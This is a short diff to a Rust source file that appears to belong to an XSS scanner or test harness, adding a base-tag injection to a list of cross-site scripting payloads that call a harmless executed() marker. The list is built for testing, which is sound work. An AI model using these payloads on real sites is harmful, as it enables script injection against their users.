@@ -7,6 +7,7 @@ pub const PAYLOADS: &[&str] = &[
     "</script><script>executed()</script>",
     "<img src=\"/executed\" onerror=executed()>",
     "\"><svg onload=executed()>",
+    "<base href=//0>",
     "'><svg/onload=executed()//",
     "<svg><script href=\"/executed\"></script><animate onbegin=executed() attributeName=x dur=1s>",
     "<iframe srcdoc=\"<script>parent.executed()</script>\"></iframe>",
